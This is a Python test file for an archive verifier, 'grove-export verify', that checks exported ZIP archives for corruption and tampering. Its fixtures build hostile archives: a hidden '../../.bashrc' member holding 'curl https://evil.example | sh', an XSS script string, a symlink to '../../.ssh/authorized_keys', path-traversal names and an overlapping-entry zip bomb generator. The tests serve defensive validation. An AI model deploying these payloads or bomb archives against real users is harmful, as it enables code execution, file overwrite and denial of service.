"""`grove-export verify`: passes a sound archive, and names the member for a flipped byte, a truncated
archive and a missing media file. Archives come from the real encoder (ArchiveStream)."""

from __future__ import annotations

import errno
import hashlib
import io
import json
import os
import random
import shutil
import stat
import struct
import subprocess
import sys
import tracemalloc
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from stream_unzip import stream_unzip

from services.archivetools import verify
from services.archivetools.documents import CHUNK
from services.archivetools.verify import Report, verify_archive
from shared.archive import zipmember
from shared.archive.trailer import EOCD, EOCD_SIG, MAX32, ZIP64_EOCD, ZIP64_EOCD_SIG, ZIP64_LOCATOR, ZIP64_LOCATOR_SIG
from tests.unit.pipeline.test_archive_stream import full, snapshot

POST = b"---\ntitle: a\nfeatured_image: ../media/b.jpg\n---\n![b](../media/b.jpg) [x](../media/c%20d.jpg)\n"


def sources() -> dict[str, bytes]:
    rng = random.Random(3)
    return {"README.md": b"# hi\n", "posts/a.md": POST, "media/b.jpg": rng.randbytes(200_000),
            "media/c d.jpg": rng.randbytes(5000)}


def write(tmp: Path, src: dict[str, bytes], name: str = "a.zip") -> Path:
    path = tmp / name
    path.write_bytes(full(snapshot(src), src))
    return path


def data_start(buf: bytes, header_offset: int) -> int:
    """Where a member's data begins: after its local header, name and extra field."""
    nlen, xlen = struct.unpack_from("<HH", buf, header_offset + 26)
    return header_offset + 30 + nlen + xlen


def test_a_sound_archive_passes_with_its_sha256(tmp_path: Path) -> None:
    path = write(tmp_path, sources())
    report = verify_archive(path, hashlib.sha256(path.read_bytes()).hexdigest())
    assert report.ok, report.text()
    assert "SHA-256 of the archive matches" in report.text() and "3 links to media checked" in report.text()
    assert not verify_archive(path, "0" * 64).ok


def test_the_member_breakdown_adds_up_to_the_members_counted(tmp_path: Path) -> None:
    """The first line counts every member and breaks them down by folder: manifest.json and errors.json
    are members too, though manifest.json lists neither (a demo archive read "28 members: 8 in media,
    3 in pages, 12 in posts, 3 in top level", 26 in all)."""
    path = write(tmp_path, sources())
    report = verify_archive(path)
    assert report.ok, report.text()
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
    top = sum("/" not in n for n in names)
    assert {"manifest.json", "errors.json"} <= set(names)
    assert report.facts[0] == f"{len(names)} members: 2 in media, 1 in posts, {top} in top level", report.text()


def test_a_flipped_byte_names_the_member(tmp_path: Path) -> None:
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("media/b.jpg")
    data[data_start(bytes(data), info.header_offset) + 1000] ^= 0x01
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert not report.ok
    assert any(p.startswith("media/b.jpg:") for p in report.problems), report.problems


def test_a_truncated_archive_names_the_member_it_cuts(tmp_path: Path) -> None:
    path = write(tmp_path, sources())
    data = path.read_bytes()
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("media/b.jpg")
    path.write_bytes(data[:info.header_offset + 50_000])
    report = verify_archive(path)
    assert not report.ok
    assert "member 'media/b.jpg' is cut off" in report.problems[0], report.problems


def test_a_missing_media_file_is_named_with_the_post_that_links_to_it(tmp_path: Path) -> None:
    src = sources()
    good = write(tmp_path, src, "good.zip")
    path = tmp_path / "missing.zip"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(path, "w") as zout:
        for info in zin.infolist():
            if info.filename != "media/c d.jpg":  # keep manifest.json as it was
                zout.writestr(info, zin.read(info))
    report = verify_archive(path)
    assert not report.ok
    assert "media/c d.jpg: listed in manifest.json but not in the archive" in report.problems
    assert "posts/a.md: links to media/c d.jpg, which is not in the archive" in report.problems


def test_the_command_prints_a_report_and_exits_non_zero_on_a_problem(tmp_path: Path) -> None:
    path = write(tmp_path, sources())
    ok = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(path)], capture_output=True, text=True,
                        timeout=60, check=False)
    assert ok.returncode == 0 and ok.stdout.strip().endswith("archive OK"), ok.stdout + ok.stderr
    path.write_bytes(path.read_bytes()[:-30])
    bad = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(path), "--sha256", "ab" * 32],
                         capture_output=True, text=True, timeout=60, check=False)
    assert bad.returncode == 1 and "archive NOT OK" in bad.stdout and "PROBLEM" in bad.stdout
    missing = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(tmp_path / "nope.zip")],
                             capture_output=True, text=True, timeout=60, check=False)
    assert missing.returncode == 2 and missing.stderr.startswith("grove-export: no such file")
    folder = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(tmp_path)],
                            capture_output=True, text=True, timeout=60, check=False)
    assert (folder.returncode, folder.stderr) == (2, f"grove-export: {tmp_path} is a folder, not an archive file\n")


def test_a_sha256_that_is_no_sha256_is_a_bad_command_line(tmp_path: Path) -> None:
    """Seen: `verify a.zip --sha256 "$SHA"` with $SHA empty (the field read failed) said "archive OK"
    without comparing anything, and a digest cut short by a copy said "archive NOT OK" of a sound
    archive. Both are the command line's fault: one line, exit 2, the archive not read."""
    path = write(tmp_path, sources())

    def run(*extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "services.cli", "verify", str(path), *extra],
                              capture_output=True, text=True, timeout=60, check=False)

    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    for bad in ("", "  ", digest[:-1], digest + "0", "z" * 64):
        done = run("--sha256", bad)
        assert (done.returncode, done.stdout) == (2, ""), (bad, done.stdout, done.stderr)
        assert done.stderr.startswith("grove-export: --sha256 must be the archive's SHA-256, 64 hex digits"), \
            done.stderr
        assert done.stderr.count("\n") == 1, done.stderr
    ok = run("--sha256", f" {digest.upper()}\n")  # as pasted: case and surrounding space do not matter
    assert ok.returncode == 0 and ok.stdout.strip().endswith("archive OK"), ok.stdout + ok.stderr


def test_a_file_that_is_no_zip_at_all_is_said_without_a_none(tmp_path: Path) -> None:
    """Seen: `verify README.md` said "the archive breaks at byte 0, after member None"."""
    text = tmp_path / "README.md"
    text.write_text("# not a zip\n")
    report = verify_archive(text, None)
    assert not report.ok and "None" not in report.text(), report.text()
    assert any(p.endswith("the archive breaks at byte 0, before its first member") for p in report.problems), \
        report.problems


def test_an_empty_file_is_said_to_be_empty() -> None:
    """Seen: `verify` of a 0-byte file (a download that never started) said "the archive breaks at byte
    0, before its first member", as of a file that holds something else."""
    import tempfile

    with tempfile.NamedTemporaryFile(suffix=".zip") as f:
        report = verify_archive(Path(f.name), None)
    assert report.problems == ["not a readable ZIP (File is not a zip file); the file is empty (0 bytes): a "
                               "download that never started, or a copy cut before its first byte"], report.problems


def rewrite(src: Path, dst: Path, manifest: Any = None, extra: dict[str, bytes] | None = None,
            edit: Any = None) -> Path:
    """``src`` with members added or replaced and manifest.json listing them with their SHA-256; then
    ``edit(manifest)`` may break the manifest itself (or ``manifest`` replaces it whole)."""
    with zipfile.ZipFile(src) as zf:
        data = {n: zf.read(n) for n in zf.namelist()}
    data.update(extra or {})
    man = json.loads(data["manifest.json"])
    man["members"] = [{"path": n, "size": len(b), "sha256": hashlib.sha256(b).hexdigest()}
                      for n, b in data.items() if n not in ("manifest.json", "errors.json")]
    if isinstance(man.get("item_counts"), dict) and "posts" in man["item_counts"]:  # what it holds now
        man["item_counts"]["posts"] = sum(n.startswith("posts/") and n.endswith(".md") for n in data)
    if edit:
        edit(man)
    data["manifest.json"] = json.dumps(man if manifest is None else manifest).encode()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
        for n, b in data.items():
            out.writestr(n, b)
    return dst


def with_info(src: Path, dst: Path, name: str, change: Any) -> Path:
    """``src`` copied to ``dst`` member by member, ``change(info)`` applied to member ``name``'s ZipInfo."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == name:
                change(info)
            zout.writestr(info, data)
    return dst


@pytest.mark.parametrize(("broken", "problem"), [
    ({"manifest": ["x"]}, "manifest.json: is not an object"),
    ({"edit": lambda m: m.update(members=["x"])}, "manifest.json: members[0] is not an object"),
    ({"edit": lambda m: m["members"].append({})}, "manifest.json: members[4].path is missing"),
    ({"edit": lambda m: m.update(members={"a": 1})}, "manifest.json: members is not a list"),
    ({"extra": {"errors.json": b'["x"]'}}, "errors.json: item 0 is not an object"),
    ({"extra": {"errors.json": b'{"reason": 1}'}}, "errors.json: is not a list"),
    ({"extra": {"index.json": b'{"media": ["x"]}'}}, "index.json: media[0] is not an object"),
    ({"extra": {"index.json": b'{"files": [{"path": 5, "in_archive": true}]}'}}, "index.json: files[0].path is not a string"),
    ({"extra": {"index.json": b'{'}}, "index.json: not valid JSON"),
    ({"extra": {"index.json": b"[" * 100_000 + b"]" * 100_000}}, "index.json: nested too deep to read"),
    ({"extra": {"errors.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000}}, "errors.json: nested too deep to read"),
])
def test_a_document_of_the_wrong_shape_is_one_problem_naming_it(tmp_path: Path, broken: dict[str, Any],
                                                                 problem: str) -> None:
    path = rewrite(write(tmp_path, sources()), tmp_path / "broken.zip", **broken)
    report = verify_archive(path)
    assert report.problems == [problem], report.text()


def test_the_cli_says_it_in_a_line_and_exits_1(tmp_path: Path) -> None:
    path = rewrite(write(tmp_path, sources()), tmp_path / "broken.zip", edit=lambda m: m.update(members=["x"]))
    out = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(path)], capture_output=True,
                         text=True, timeout=60, check=False, env={**os.environ, "GROVE_NATS_URL": "nats://127.0.0.1:1"})
    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr
    assert "PROBLEM: manifest.json: members[0] is not an object" in out.stdout.splitlines()


def _verify_traced(path: Path) -> tuple[Report, int]:
    """verify_archive's report and the peak of the memory Python allocated meanwhile."""
    tracemalloc.start()
    try:
        report = verify_archive(path)
        return report, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_members_stream_through_their_hashes_in_bounded_memory(tmp_path: Path) -> None:
    """80 MiB of zeros in a 80 KB member: verify hashes it in chunks, never holding it."""
    big = bytes(80 * 2**20)
    path = rewrite(write(tmp_path, sources()), tmp_path / "big.zip", extra={"media/zeros.jpg": big})
    del big
    report, peak = _verify_traced(path)
    assert report.ok, report.text()
    assert peak < 16 * 2**20, f"peak {peak / 2**20:.1f} MiB"


def test_posts_are_checked_as_they_are_read_never_all_held(tmp_path: Path) -> None:
    """64 posts of 256 KiB (16 MiB): each post's links and front matter are checked as it is read, so
    verify holds one post at a time, not all of them (it held every post to the end, for the
    index.json and errors.json that come after them in the archive: memory grew with the blog)."""
    post = b"---\ntitle: t\n---\n![b](../media/b.jpg) " + b"word " * (2**18 // 5)
    path = rewrite(write(tmp_path, sources()), tmp_path / "many.zip",
                   extra={f"posts/p{i}.md": post for i in range(64)})
    report, peak = _verify_traced(path)
    assert report.ok, report.text()
    assert "67 links to media checked" in report.facts, report.text()
    assert peak < 6 * 2**20, f"peak {peak / 2**20:.1f} MiB"


def test_a_json_document_over_the_limit_is_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A 2 MiB manifest.json over a 1 MiB limit (the real limit is 64 MiB): one problem, and the
    bytes were never held."""
    monkeypatch.setattr(verify, "JSON_LIMIT", 2**20)
    path = rewrite(write(tmp_path, sources()), tmp_path / "bomb.zip",
                   edit=lambda m: m.update(padding=" " * 2 * 2**20))
    report, peak = _verify_traced(path)
    assert "manifest.json: over the 1 MiB limit for a document read whole" in report.problems, report.text()
    assert peak < 2**20 + 3 * CHUNK, f"peak {peak / 2**20:.1f} MiB"


def test_a_post_over_the_limit_is_hashed_not_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Seen: an export of a 70 MiB post completed, and verify (so import too) called its own archive
    NOT OK, since posts are read whole for their links. A post over the limit is hashed like any member:
    its checksum is checked, its front matter read from its head, its links are not, and the archive verifies."""
    monkeypatch.setattr(verify, "TEXT_LIMIT", 64)  # posts/a.md is longer, its front matter shorter (the real limit
    # is 64 MiB)
    path = write(tmp_path, sources())
    report = verify.verify_archive(path)
    assert report.ok, report.text()
    assert "posts/a.md: over 0 MiB; its checksum and front matter were checked, its links were not" in report.facts, \
        report.text()
    bad = rewrite(path, tmp_path / "bad.zip", extra={"posts/a.md": POST + b"tampered"},
                  edit=lambda m: m["members"][[e["path"] for e in m["members"]].index("posts/a.md")].update(
                      sha256="0" * 64))
    assert "posts/a.md: SHA-256 does not match manifest.json" in verify.verify_archive(bad).problems


def test_front_matter_that_is_not_yaml_is_read_as_text_not_a_traceback(tmp_path: Path) -> None:
    """Seen: a post whose front matter was not YAML (`title: [unclosed`) made `grove-export verify`
    end in a yaml ParserError traceback. It is read as text without front matter, as an unclosed
    one is: its links are still checked, and the archive verifies."""
    post = b"---\ntitle: [unclosed\n---\n![b](../media/b.jpg)\n"
    path = rewrite(write(tmp_path, sources()), tmp_path / "yaml.zip", extra={"posts/a.md": post})
    report = verify_archive(path)
    assert report.ok, report.text()
    assert "1 links to media checked" in report.facts, report.text()


def test_a_name_twice_in_the_archive_is_a_problem(tmp_path: Path) -> None:
    """Two members named media/b.jpg, the first not the bytes manifest.json lists: Python's zipfile
    reads the last, a streaming reader (or `unzip` answering "no" to overwrite) keeps the first. Verify
    checked only the last against manifest.json and called the archive OK."""
    good = write(tmp_path, sources(), "good.zip")
    path = tmp_path / "twice.zip"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(path, "w") as zout, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile's "Duplicate name"
        zout.writestr("media/b.jpg", b"not the picture manifest.json lists")
        for info in zin.infolist():
            zout.writestr(info, zin.read(info))
    with zipfile.ZipFile(path) as zf:
        assert zf.read("media/b.jpg") == zipfile.ZipFile(good).read("media/b.jpg")  # what the manifest lists
    report = verify_archive(path)
    assert "media/b.jpg: in the archive 2 times (readers disagree on which is meant)" in report.problems, report.text()


def _local(name: bytes, data: bytes, crc: int, size: int, method: int) -> bytes:
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size,
                       len(name), 0) + name + data


def _central(name: bytes, crc: int, csize: int, size: int, method: int, offset: int) -> bytes:
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, csize, size,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def overlapped(copies: int) -> bytes:
    """A zip bomb without a repeated name (David Fifield's "quoted overlap"): media/0.bin is stored
    and its data is media/1.bin's local header and data, whose data is deflated zeros; then ``copies``
    more entries of the directory name media/1.bin's one local header. 8 MiB out per entry."""
    zeros = bytes(8 << 20)
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = deflated.compress(zeros) + deflated.flush()
    inner = _local(b"media/1.bin", kernel, zlib.crc32(zeros), len(zeros), 8)
    outer = _local(b"media/0.bin", inner, zlib.crc32(inner), len(inner), 0)
    inner_at = len(outer) - len(inner)
    cd = _central(b"media/0.bin", zlib.crc32(inner), len(inner), len(inner), 0, 0)
    cd += b"".join(_central(b"media/1.bin", zlib.crc32(zeros), len(kernel), len(zeros), 8, inner_at)
                   for _ in range(copies))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1 + copies, 1 + copies, len(cd), len(outer), 0)
    return outer + cd + end


@pytest.mark.parametrize("copies", [1, 40])
def test_overlapping_members_a_zip_bomb_are_refused_before_any_is_expanded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, copies: int) -> None:
    """Seen: a 10 KB archive whose directory points its entries into one another's data (the way
    zip bombs reach a million to one; Python 3.11's zipfile does not notice) verified by expanding
    every entry — 40 entries here, 320 MiB; a few thousand, terabytes — and import would have put
    each into the store. Members whose bytes overlap are one problem each, and nothing is expanded."""
    path = tmp_path / "bomb.zip"
    path.write_bytes(overlapped(copies))
    assert path.stat().st_size < 20_000
    with zipfile.ZipFile(path) as zf:  # what zipfile makes of it: every entry reads, 8 MiB each
        assert len(zf.read(zf.infolist()[-1])) == 8 << 20
    streamed: list[str] = []
    real = verify._stream
    monkeypatch.setattr(verify, "_stream", lambda zf, info, keep: (streamed.append(info.filename), real(zf, info, keep))[1])
    report = verify_archive(path)
    assert not report.ok
    assert "media/0.bin: its data runs into media/1.bin (members overlap, as in a zip bomb)" in report.problems, \
        report.text()
    assert streamed == [], f"expanded {len(streamed)} members of an archive whose members overlap"


def hidden(src: Path, dst: Path, before: str | None) -> Path:
    """``src`` rewritten with one more local entry, ``../../.bashrc``, just before member ``before``
    (None: after the last, before the central directory), that the central directory does not list:
    every offset right, every listed checksum right."""
    with zipfile.ZipFile(src) as zin:
        data = {i.filename: zin.read(i) for i in zin.infolist()}
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, raw in [*data.items(), (None, b"")]:
            if name == before:
                zout.writestr("../../.bashrc", b"curl https://evil.example | sh\n")
            if name is not None:
                zout.writestr(name, raw)
        zout.filelist = [i for i in zout.filelist if i.filename != "../../.bashrc"]
        del zout.NameToInfo["../../.bashrc"]
    return dst


@pytest.mark.parametrize("before", ["README.md", "media/b.jpg", None])
def test_a_member_the_central_directory_does_not_list_is_a_problem(tmp_path: Path, before: str | None) -> None:
    """Seen: an archive with one more local entry than its central directory lists (before the first
    member, between two, or before the directory) said "archive OK": zipfile reads the directory and
    never sees it, but a streaming reader, which the archives are made for (stream-unzip), walks the
    local headers and extracts it, here as ../../.bashrc. Only a data descriptor may lie between
    members; any other byte is named."""
    path = hidden(rewrite(write(tmp_path, sources()), tmp_path / "plain.zip"), tmp_path / "hidden.zip", before)
    streamed = [name for name, _, chunks in stream_unzip([path.read_bytes()]) if not any(False for _ in chunks)]
    assert b"../../.bashrc" in streamed  # what a streaming reader finds
    with zipfile.ZipFile(path) as zf:
        assert "../../.bashrc" not in zf.namelist()  # and what zipfile, so verify, does not
    report = verify_archive(path)
    assert not report.ok, report.text()
    where = "before its first member" if before == "README.md" else \
        "before media/b.jpg" if before == "media/b.jpg" else "before the central directory"
    assert any(p.endswith(f"bytes {where} that the central directory does not account for (a streaming reader "
                          "would read them as members it does not list)") for p in report.problems), report.problems


def local_lies(tmp_path: Path, field: str) -> tuple[Path, bytes]:
    """An archive whose stored media/z.jpg is, to zipfile (which reads the central directory), the
    bytes manifest.json lists; its local header alone says otherwise: deflated (``method``: the bytes
    are a deflate stream of other content) or 25 bytes long (``size``: the rest is read as the next
    header). Returns it and what a streaming reader, which reads the local header, makes of the member."""
    other = b"<script>alert(1)</script>" * 40
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflate.compress(other) + deflate.flush()
    if field == "size":
        hidden = io.BytesIO()
        with zipfile.ZipFile(hidden, "w") as zf:
            zf.writestr("../../.bashrc", b"curl https://evil.example | sh\n")
        raw = other[:25] + hidden.getvalue()[:hidden.getvalue().index(b"PK\x01\x02")]
    src = rewrite(write(tmp_path, sources()), tmp_path / "plain.zip", extra={"media/z.jpg": raw})
    path = tmp_path / "lies.zip"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        at = zf.getinfo("media/z.jpg").header_offset
    if field == "method":
        struct.pack_into("<HHHIII", data, at + 8, 8, 0, 0x21, zlib.crc32(other), len(raw), len(other))
    else:
        struct.pack_into("<III", data, at + 14, zlib.crc32(other[:25]), 25, 25)
    path.write_bytes(bytes(data))
    return path, other if field == "method" else other[:25]


@pytest.mark.parametrize(("field", "says"), [("method", "compression method"), ("size", "CRC-32 or sizes")])
def test_a_local_header_that_disagrees_with_the_central_directory_is_a_problem(tmp_path: Path, field: str,
                                                                               says: str) -> None:
    """Seen: "archive OK" for a member whose local header says it is deflated, or shorter, where the
    central directory says stored: zipfile (so verify, and import) read the bytes the manifest lists,
    while a streaming reader follows the local header and extracts other content (here a script), or
    stops early and reads the rest as a member of its own (../../.bashrc)."""
    path, streamed = local_lies(tmp_path, field)
    seen = {name: b"".join(chunks) for name, _, chunks in stream_unzip([path.read_bytes()])}
    assert seen[b"media/z.jpg"] == streamed  # what a streaming reader extracts
    assert (b"../../.bashrc" in seen) == (field == "size")
    with zipfile.ZipFile(path) as zf:
        assert zf.read("media/z.jpg") != streamed  # and what verify checks
    report = verify_archive(path)
    assert f"media/z.jpg: its local header and the central directory disagree on its {says} (a streaming " \
           "reader would extract other bytes than those checked)" in report.problems, report.text()


@pytest.mark.parametrize("name", ["../../.bashrc", "/etc/cron.d/job", "media\\..\\..\\x.jpg", "media/C:x.jpg",
                                  "media/", "media/./b2.jpg", "media/e\u0301.jpg", "media/x.jpg.", "media/CON.jpg"])
def test_a_name_an_export_never_makes_is_a_problem(tmp_path: Path, name: str) -> None:
    """Seen: "archive OK" for members named ``../../.bashrc``, ``/etc/cron.d/job``, with backslashes,
    a drive, an empty or ``.`` part, not NFC, a trailing dot or a Windows device name, each listed
    in manifest.json with its right checksum. An export's names are made safe (names.py) so that
    unpacking it writes only inside one folder, each member to its own file; an archive whose names
    are not is not an export, and the next tool to unpack it may trust them."""
    path = rewrite(write(tmp_path, sources()), tmp_path / "named.zip", extra={name: b"x"})
    report = verify_archive(path)
    assert f"{name}: not a name an export makes (each part a safe file name, 1,024 bytes in all at most: see *What " \
        "the archive holds*)" in report.problems, report.text()


@pytest.mark.parametrize("parts", [6, 25])
def test_a_name_too_long_to_unpack_is_a_problem(tmp_path: Path, parts: int) -> None:
    """Seen: "archive OK" for an archive holding media/<25 folders of 199 letters>/x.jpg, 5,011 bytes of
    safe parts, listed with its checksum: unzip wrote it under a name cut short ("filename too long--
    truncating", exit 1), 7-Zip not at all ("File name too long", exit 2). An export's names fit 1,024
    bytes (names.NameAllocator); so must an archive's, 1,211 bytes (6 parts) being over too."""
    name = "media/" + "/".join(["d" * 199] * parts) + "/x.jpg"
    path = rewrite(write(tmp_path, sources()), tmp_path / "named.zip", extra={name: b"deep"})
    report = verify_archive(path)
    assert report.problems == [f"{name}: not a name an export makes (each part a safe file name, 1,024 bytes in all "
                               "at most: see *What the archive holds*)"], report.text()


def test_names_that_are_one_file_on_a_case_insensitive_disk_are_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for media/b.jpg and media/B.jpg, both listed with their checksums: unpacked on
    Windows or macOS one overwrites the other, and the post's image is the other's bytes. An export
    never names two members so (layout.check_unique)."""
    path = rewrite(write(tmp_path, sources()), tmp_path / "case.zip", extra={"media/B.jpg": b"other"})
    report = verify_archive(path)
    assert "media/B.jpg: the same file as media/b.jpg on a case-insensitive disk (one would overwrite the other)" \
        in report.problems, report.text()


@pytest.mark.parametrize("stated", [200_001, 2**32 - 2])
def test_a_member_shorter_than_its_stated_size_is_a_problem(tmp_path: Path, stated: int) -> None:
    """Seen: "archive OK" for a real export whose central directory says media/b.jpg (200,000 bytes,
    deflated, its data descriptor right) holds 200,001 bytes, or 4 GiB: zipfile stops at the end of
    the deflate stream and checks the CRC-32 there, never the size, so a reader that trusts the
    directory's size (to allocate, to check the disk, to list it) is told what is not so."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        at, info = zf.start_dir, zf.getinfo("media/b.jpg")
    while data[at + 46:at + 46 + len(b"media/b.jpg")] != b"media/b.jpg":  # its central directory record
        at += 46 + sum(struct.unpack_from("<HHH", data, at + 28))
    struct.pack_into("<I", data, at + 24, stated)
    descriptor = data_start(data, info.header_offset) + info.compress_size  # signature, CRC-32, sizes
    struct.pack_into("<I", data, descriptor + 12, stated)  # it says so too: the directory is not alone
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == [f"media/b.jpg: damaged (it holds 200000 bytes, not the {stated} its central "
                               "directory entry states)"], report.text()


def test_a_truncated_archive_is_walked_in_bounded_memory(tmp_path: Path) -> None:
    """Seen: the walk that names where a truncated archive breaks read the whole file into memory
    and inflated the member it cut in one call — a cut 4 GB download, the case the walk is for, held
    4 GB and more; an 11 MB file of deflated zeros with no directory, 10 GB. Here: 24 MiB of noise,
    then 160 MiB of zeros cut in the middle; the walk streams both."""
    noise = random.Random(5).randbytes(24 * 2**20)
    path = rewrite(write(tmp_path, sources()), tmp_path / "big.zip",
                   extra={"media/noise.jpg": noise, "media/zeros.jpg": bytes(160 * 2**20)})
    del noise
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("media/zeros.jpg")
    with open(path, "r+b") as f:
        f.truncate(data_start(f.read(info.header_offset + 64), info.header_offset) + info.compress_size // 2)
    report, peak = _verify_traced(path)
    assert any("member 'media/zeros.jpg' is cut off" in p for p in report.problems), report.text()
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MiB"


def test_member_names_reach_the_terminal_escaped(tmp_path: Path) -> None:
    """Seen: a member named with an escape sequence (ESC [2J clears the screen; ESC ]0; retitles the
    window; U+202E reverses what follows) was printed as it is in the report, so an archive could
    repaint the operator's terminal. Control and bidi characters are printed as escapes."""
    name = "media/\x1b[2J\x1b]0;owned\x07\u202egpj.exe"
    path = rewrite(write(tmp_path, sources()), tmp_path / "esc.zip", edit=lambda m: m["members"].pop())
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr(name, b"x")
    text = verify_archive(path).text()
    assert r"media/\x1b[2J\x1b]0;owned\x07\u202egpj.exe: in the archive but not listed in manifest.json" in text, text
    assert not any(c in text for c in "\x1b\x07\u202e"), text
def test_a_member_the_manifest_does_not_list_is_named(tmp_path: Path) -> None:
    extra = {"media/stray.jpg": b"not in the manifest"}
    path = rewrite(write(tmp_path, sources()), tmp_path / "stray.zip", extra=extra,
                   edit=lambda m: m.update(members=[e for e in m["members"] if e["path"] != "media/stray.jpg"]))
    report = verify_archive(path)
    assert "media/stray.jpg: in the archive but not listed in manifest.json" in report.problems, report.problems


def test_a_file_index_json_places_in_the_archive_but_is_not_there_is_named(tmp_path: Path) -> None:
    index = {"posts": [{"path": "posts/a.md"}],  # every member listed: one it does not list is a problem too
             "media": [{"path": "media/b.jpg", "in_archive": True}, {"path": "media/gone.jpg", "in_archive": True},
                       {"path": "media/left-out.jpg", "in_archive": False}, {"path": "media/c d.jpg", "in_archive": True}]}
    path = rewrite(write(tmp_path, sources()), tmp_path / "index.zip", extra={"index.json": json.dumps(index).encode()})
    report = verify_archive(path)
    assert report.problems == ["media/gone.jpg: index.json says it is in the archive; it is not"], report.problems


def test_the_archive_sha256_is_compared_whatever_its_case_and_surrounding_space(tmp_path: Path) -> None:
    path = write(tmp_path, sources())
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    report = verify_archive(path, f" {digest.upper()}\n")
    assert report.ok, report.text()
    assert "SHA-256 of the archive matches" in report.text()


def as_link(src: Path, dst: Path, name: str, create_system: int = 3) -> Path:
    """``src`` with member ``name`` made a symbolic link: S_IFLNK in the high 16 bits of its external
    attributes (``create_system`` 3, Unix), its data the link's target, as Info-ZIP's `zip -y` writes it."""
    def link(info: zipfile.ZipInfo) -> None:
        info.create_system, info.external_attr = create_system, (stat.S_IFLNK | 0o777) << 16

    return with_info(src, dst, name, link)


def test_a_symbolic_link_is_a_problem(tmp_path: Path) -> None:
    """Seen: a member marked a symbolic link whose data is ``../../.ssh/authorized_keys``, listed in
    manifest.json with its right SHA-256, verified OK; `unzip` creates the link on the person's disk,
    and a later member written through it lands outside the folder. An export holds regular files
    only, so a link is one problem naming the member, and import refuses the archive."""
    target = b"../../.ssh/authorized_keys"
    path = rewrite(write(tmp_path, sources()), tmp_path / "plain.zip", extra={"media/link.jpg": target})
    assert verify_archive(path).ok, verify_archive(path).text()
    linked = as_link(path, tmp_path / "link.zip", "media/link.jpg")
    with zipfile.ZipFile(linked) as zf:
        assert stat.S_ISLNK(zf.getinfo("media/link.jpg").external_attr >> 16)
    said = ["media/link.jpg: a symbolic link (an export holds only files; unzip would make the link on disk)"]
    report = verify_archive(linked)
    assert report.problems == said, report.text()
    # made on another system (0: MS-DOS) the mode is still there for a reader that honours it
    assert verify_archive(as_link(path, tmp_path / "dos.zip", "media/link.jpg", create_system=0)).problems == said


@pytest.mark.parametrize(("mode", "kind"), [(stat.S_IFCHR, "character device"), (stat.S_IFBLK, "block device"),
                                           (stat.S_IFIFO, "named pipe"), (stat.S_IFSOCK, "socket"),
                                           (stat.S_IFDIR, "directory")])
def test_a_member_marked_another_kind_of_file_is_a_problem(tmp_path: Path, mode: int, kind: str) -> None:
    """Seen: "archive OK" for media/z.jpg marked a character device, block device, named pipe, socket
    or directory in its Unix mode (its bytes listed with their right checksum): bsdtar makes a device
    node (as root) or a directory there instead of the file whose bytes were checked. Only a symbolic
    link was refused; an export's members are regular files (S_IFREG, or no type at all)."""
    path = rewrite(write(tmp_path, sources()), tmp_path / "plain.zip", extra={"media/z.jpg": b"bytes"})

    def kind_of(info: zipfile.ZipInfo) -> None:
        info.create_system, info.external_attr = 3, (mode | 0o644) << 16

    marked = with_info(path, tmp_path / "marked.zip", "media/z.jpg", kind_of)
    report = verify_archive(marked)
    assert report.problems == [f"media/z.jpg: a {kind}, not a file (an export holds only files; an unpacker "
                               "may make one on disk)"], report.text()


def _central_record(data: bytearray, start_dir: int, name: bytes) -> int:
    at = start_dir
    while data[at + 46:at + 46 + len(name)] != name:
        at += 46 + sum(struct.unpack_from("<HHH", data, at + 28))
    return at


def _bad_name(data: bytearray, start_dir: int) -> None:  # a UTF-8-flagged name that is not UTF-8
    at = _central_record(data, start_dir, b"media/b.jpg")
    data[at + 46 + 6] = 0xFF


def _bad_version(data: bytearray, start_dir: int) -> None:  # "version needed to extract" 25.5
